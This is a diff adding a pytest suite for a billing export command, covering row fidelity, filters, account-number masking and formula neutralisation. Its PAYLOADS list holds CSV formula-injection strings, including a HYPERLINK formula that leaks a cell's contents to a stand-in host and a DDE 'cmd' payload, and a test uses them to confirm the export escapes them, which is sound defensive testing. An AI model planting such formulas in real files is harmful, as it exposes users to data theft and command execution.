@@ -1,0 +1,131 @@
+"""export: every table equals the query's rows to the cent, and no cell is a formula."""
+
+import csv
+import io
+import zipfile
+from datetime import date, datetime
+from decimal import Decimal
+
+import pytest
+from python_calamine import CalamineWorkbook
+
+from data_access.exporting import plain_text
+from data_access.queries.sheets import SHEETS
+from data_access.scope import Scope
+from domain.filters import Filters
+from domain.money import Money
+from seed.writing import generate, write
+from tests import factories as make
+
+AS_OF = date(2026, 11, 20)
+PAYLOADS = ('=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "'=1")
+
+
+@pytest.fixture
+def tiny(database):
+    write(database, generate("tiny", 1, AS_OF), "seed")
+
+
+def plain(cell):
+    """A cell as a reader of the file must find it again."""
+    if isinstance(cell, Money):
+        return cell.decimal
+    if isinstance(cell, bool):
+        return "yes" if cell else "no"
+    if isinstance(cell, datetime):
+        return cell.replace(tzinfo=None)
+    return "" if cell is None else cell
+
+
+def same(read, cell):
+    wanted = plain(cell)
+    if isinstance(wanted, Decimal | int | float):
+        return Decimal(str(read)).quantize(Decimal("0.0001")) == Decimal(str(wanted)).quantize(Decimal("0.0001"))
+    if isinstance(wanted, datetime):
+        moment = read if isinstance(read, datetime) else datetime.fromisoformat(read).replace(tzinfo=None)
+        return abs((moment - wanted).total_seconds()) < 1
+    if isinstance(wanted, date):
+        return str(read)[:10] == wanted.isoformat()
+    return plain_text(read) == wanted if isinstance(read, str) else str(read) == wanted
+
+
+def csv_table(path):
+    lines = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+    about = [line[0] for line in lines if line and line[0].startswith("# ")]
+    return about, lines[len(about)], lines[len(about) + 1 :]
+
+
+def xlsx_table(path, width):
+    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python(skip_empty_area=False)
+    blank = next(n for n, row in enumerate(rows) if not any(str(cell) for cell in row))
+    about = [str(row[0]) for row in rows[:blank]]
+    return about, [str(cell) for cell in rows[blank + 1][:width]], [row[:width] for row in rows[blank + 2 :]]
+
+
+@pytest.mark.parametrize("name", list(SHEETS))
+def test_every_table_equals_its_query(database, tiny, ask, tmp_path, name):
+    with database.reading() as connection:
+        sheet = SHEETS[name](connection, Scope.all_sites(), Filters(as_of=AS_OF))
+    assert sheet.rows or name in ("unapplied", "late-bills")
+    for extension in ("csv", "xlsx"):
+        path = tmp_path / f"{name}.{extension}"
+        result = ask("export", name, "--format", extension, "--out", path, "--as-of", "2026-11-20")
+        assert result == {"name": name, "format": extension, "file": str(path), "rows": len(sheet.rows)}
+        about, head, rows = csv_table(path) if extension == "csv" else xlsx_table(path, len(sheet.columns))
+        assert any("2026-11-20" in line for line in about)
+        assert head == list(sheet.columns)
+        assert len(rows) == len(sheet.rows)
+        for read, wanted in zip(rows, sheet.rows, strict=True):
+            assert all(same(*pair) for pair in zip(read, wanted, strict=True)), (read, wanted)
+
+
+def test_the_filters_are_applied_and_written_on_it(tiny, ask, tmp_path):
+    path = tmp_path / "b.csv"
+    result = ask("export", "balances", "--out", path, "--as-of", "2026-10-01", "--currency", "USD", "--currency", "EUR")
+    about, _, rows = csv_table(path)
+    assert {"# As of 2026-10-01", "# Currency: USD, EUR"} <= set(about)
+    assert {row[1] for row in rows} <= {"USD", "EUR"}
+    assert result["rows"] == len(rows)
+
+
+def test_formulas_are_shown_and_never_run(database, ask, tmp_path):
+    for n, payload in enumerate(PAYLOADS):
+        site_id = make.site(database, f"S{n}", name=payload)
+        where = {
+            "account_id": make.account(database, site_id, make.vendor(database, payload), f"A{n}"),
+            "site_id": site_id,
+        }
+        make.invoice(database, where, payload, date(2026, 1, 1), date(2026, 2, 1), 100 + n)
+    for extension in ("csv", "xlsx"):
+        path = tmp_path / f"bills.{extension}"
+        ask("export", "open-bills", "--format", extension, "--out", path, "--as-of", "2026-11-20")
+        _, head, rows = csv_table(path) if extension == "csv" else xlsx_table(path, 12)
+        cells = [row[head.index(column)] for row in rows for column in ("Site", "Vendor", "Bill")]
+        if extension == "csv":
+            assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+            assert sorted(plain_text(cell) for cell in cells) == sorted(PAYLOADS * 3)
+        else:
+            with zipfile.ZipFile(path) as parts:
+                assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
+                assert not [name for name in parts.namelist() if "hyperlink" in name.lower()]
+
+
+def test_account_numbers_are_masked(database, tmp_path, ask):
+    site_id = make.site(database)
+    place = {"account_id": make.account(database, site_id, make.vendor(database), "44150098 7731"), "site_id": site_id}
+    make.invoice(database, place, "B", date(2026, 1, 1), date(2026, 2, 1), 100)
+    for name in SHEETS:
+        path = tmp_path / f"{name}.csv"
+        ask("export", name, "--out", path, "--as-of", "2026-11-20")
+        assert "4415" not in path.read_text(encoding="utf-8-sig"), name
+
+
+def test_an_export_replaces_its_file_and_leaves_no_draft(tiny, cli, tmp_path):
+    path = tmp_path / "b.csv"
+    path.write_text("old")
+    assert cli("export", "balances", "--out", path)[0] == 0
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf# Balances")
+    code, out, err = cli("export", "balances", "--out", tmp_path / "nowhere" / "b.csv")
+    assert (code, out) == (1, "")
+    assert "cannot write" in err
+    assert list(tmp_path.glob("*.part")) == []
